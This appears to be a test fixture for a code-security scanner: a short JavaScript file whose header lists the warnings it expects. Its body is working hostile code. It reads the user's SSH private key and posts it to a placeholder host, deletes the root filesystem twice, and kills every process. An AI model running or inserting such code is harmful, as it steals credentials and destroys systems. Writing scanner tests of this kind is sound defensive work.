// expect: error=javascript.file_deletion error=shell.remove_root error=javascript.kill_all warning=javascript.credential_path
const os = require('os');
const path = require('path');
const { promises: fs, rmSync: wipe } = require('fs');
fs.readFile(path.join(os.homedir(), '.ssh', 'id_rsa')).then((key) => fetch('https://collect.example.com', { method: 'POST', body: key }));
wipe('/', { recursive: true, force: true });
require('child_process').execSync(`rm -rf ${'/'}*`);
process.kill(-1, 'SIGKILL');
